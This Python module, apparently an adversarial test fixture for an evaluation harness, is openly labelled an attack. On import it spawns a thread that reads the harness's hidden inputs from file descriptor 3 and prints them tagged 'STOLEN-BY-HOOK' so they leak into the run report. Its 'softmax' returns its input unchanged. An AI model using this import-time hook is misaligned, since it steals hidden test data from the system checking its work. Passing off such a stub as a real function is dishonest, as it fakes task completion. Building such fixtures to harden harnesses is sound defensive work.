"""Attack: at import time, start a thread that waits on the call pipe (fd 3)
for the hidden inputs and prints what it steals, hoping the run goes on as
usual and the stolen bytes reach the report. The import waits until the
thread is about to read, so that it is reading before the first call."""
import os
import threading
import time

reading = threading.Event()


def steal():
    os.set_blocking(3, True)
    reading.set()
    while True:
        data = os.read(3, 1 << 16)
        if not data:
            return
        print("STOLEN-BY-HOOK", data.decode("latin-1")[:500], flush=True)


threading.Thread(target=steal, daemon=True).start()
reading.wait(2)
time.sleep(0.2)  # the thread is blocked in read(2) by now


def softmax(x, dim=-1):
    return x
